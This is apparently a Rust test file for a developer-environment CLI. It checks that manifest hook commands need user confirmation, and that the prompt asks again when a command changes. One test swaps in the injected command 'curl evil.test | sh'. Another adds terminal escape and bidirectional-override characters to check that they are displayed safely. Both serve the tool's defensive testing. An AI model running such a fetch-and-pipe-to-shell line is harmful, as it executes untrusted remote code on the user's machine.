//! Commands of a manifest that run on this machine are confirmed before, once.

use std::process::{Command, Stdio};

use crate::support::{CommandOutput, TestEnvironment};

/// Two hooks, each of which would leave a file.
const MANIFEST: &str = "apiVersion: devenv/v1
name: shop
services: { web: { image: nginx:1 } }
hooks:
  afterUp:
    - { command: [sh, -c, \"touch after-up\"] }
    - { service: web, command: [in-the-container] }
  beforeDown:
    - { command: [touch, before-down] }
";

fn project() -> TestEnvironment {
    let mut environment = TestEnvironment::new();
    environment.set("DOCKER_HOST", "unix:///nowhere");
    environment.write_project("devenv.yaml", MANIFEST);
    environment
}

/// The code of the first failure of a command with `-o json`.
fn code(output: &CommandOutput) -> String {
    let document = output.document();
    let failures = document["failures"].as_array().expect("failures");
    failures[0]["code"].as_str().expect("a code").to_owned()
}

fn up(environment: &TestEnvironment, more: &[&str]) -> CommandOutput {
    let output = environment.devenv(["up", "--no-session", "-o", "json"].iter().chain(more));
    assert!(!environment.project().join("after-up").exists(), "{output}");
    output
}

/// What `up` fails with where there is no docker: it went on.
const WENT_ON: &str = "docker.not-running";

#[test]
fn without_a_terminal_nothing_of_the_manifest_runs_and_all_of_it_is_shown() {
    let environment = project();
    let output = environment.devenv(["up"]);
    assert_eq!(output.code, Some(2), "{output}");
    insta::assert_snapshot!(output);
    assert!(
        !environment.home().join(".local").exists(),
        "nothing was done"
    );
    assert_eq!(code(&up(&environment, &[])), "trust.not-confirmed");
}

#[test]
fn yes_is_kept_and_a_command_that_changes_is_asked_for_alone() {
    let environment = project();
    let output = up(&environment, &["--yes"]);
    assert_eq!(code(&output), WENT_ON);
    assert!(output.stderr.contains("touch after-up"), "{output}");
    let output = up(&environment, &[]);
    assert_eq!(code(&output), WENT_ON);
    assert!(!output.stderr.contains("confirmed"), "{output}");
    // Another line is no other command.
    environment.write_project("devenv.yaml", &format!("# Ours.\n{MANIFEST}"));
    assert_eq!(code(&up(&environment, &[])), WENT_ON);
    let changed = MANIFEST.replace("touch after-up", "touch after-up; curl evil.test | sh");
    environment.write_project("devenv.yaml", &changed);
    let output = up(&environment, &[]);
    assert_eq!(code(&output), "trust.not-confirmed");
    let evidence = &output.document()["failures"][0]["evidence"][0]["lines"];
    let shown = evidence.as_array().expect("lines");
    assert_eq!(shown.len(), 2, "{output}");
    assert_eq!(shown[1], "  | sh -c 'touch after-up; curl evil.test | sh'");
    // A copy of the project elsewhere is another one.
    environment.write_project("copy/devenv.yaml", MANIFEST);
    let output = environment.devenv(["-C", "copy", "up", "--no-session", "-o", "json"]);
    assert_eq!(code(&output), "trust.not-confirmed");
}

#[test]
fn a_directory_of_the_settings_is_trusted_with_all_below_it() {
    let environment = project();
    let trust = |directory: &str| {
        let settings = format!("trust: [{directory}]\n");
        environment.write_home(".config/devenv/config.yaml", &settings);
    };
    let root = environment.home().join("..").display().to_string();
    trust(&root);
    assert_eq!(code(&up(&environment, &[])), WENT_ON);
    trust(&format!("{root}/home"));
    assert_eq!(code(&up(&environment, &[])), "trust.not-confirmed");
    trust("~/../project");
    assert_eq!(code(&up(&environment, &[])), WENT_ON);
    trust("project");
    assert_eq!(code(&up(&environment, &[])), "settings.invalid");
}

#[test]
fn each_verb_asks_for_what_it_runs() {
    let mut environment = project();
    let socket = environment.home().join("engine");
    crate::engine::empty_engine_at(&socket);
    environment.set("DOCKER_HOST", &format!("unix://{}", socket.display()));
    let output = environment.devenv(["data", "reset", "-o", "json"]);
    assert_eq!(code(&output), "trust.not-confirmed");
    assert!(output.stdout.contains("after-up"), "{output}");
    assert!(!output.stdout.contains("before-down"), "{output}");
    // There is nothing to take down, so nothing runs and nothing is asked.
    assert_eq!(environment.devenv(["down"]).code, Some(0));
    environment.write_project("datasets/.keep", "");
    let state = environment.home().join(".local/state/devenv");
    assert!(!state.join("trust.json").exists());
}

/// What a user at a terminal sees who types `answer`.
fn at_a_terminal(environment: &TestEnvironment, answer: &str) -> (Option<i32>, String) {
    let words = "/usr/bin/script --quiet --return --command \"$DEVENV up --no-session\" /dev/null";
    let mut command: Command = environment.shell(words);
    command.env("TERM", "dumb").stdin(Stdio::piped());
    command.stdout(Stdio::piped()).stderr(Stdio::null());
    let mut child = command.spawn().expect("script of util-linux");
    let mut stdin = child.stdin.take().expect("a pipe");
    std::io::Write::write_all(&mut stdin, answer.as_bytes()).expect("somebody who reads");
    let output = child.wait_with_output().expect("an end");
    drop(stdin);
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    (output.status.code(), said)
}

#[test]
fn at_a_terminal_the_command_is_shown_and_the_answer_counts() {
    let environment = project();
    let hostile = MANIFEST.replace("touch after-up", "touch after-up \\e[2J\\u202e");
    environment.write_project("devenv.yaml", &hostile);
    let (code, said) = at_a_terminal(&environment, "n\n");
    assert_eq!(code, Some(2), "{said}");
    assert!(said.contains("touch after-up ^[[2J<U+202E>"), "{said}");
    assert!(said.contains("usage.declined"), "{said}");
    let (code, said) = at_a_terminal(&environment, "n\n");
    assert_eq!(code, Some(2), "a no is no yes\n{said}");
    let (_, said) = at_a_terminal(&environment, "y\n");
    assert!(said.contains(WENT_ON), "{said}");
    let (_, said) = at_a_terminal(&environment, "n\n");
    assert!(said.contains(WENT_ON), "it is asked once\n{said}");
}
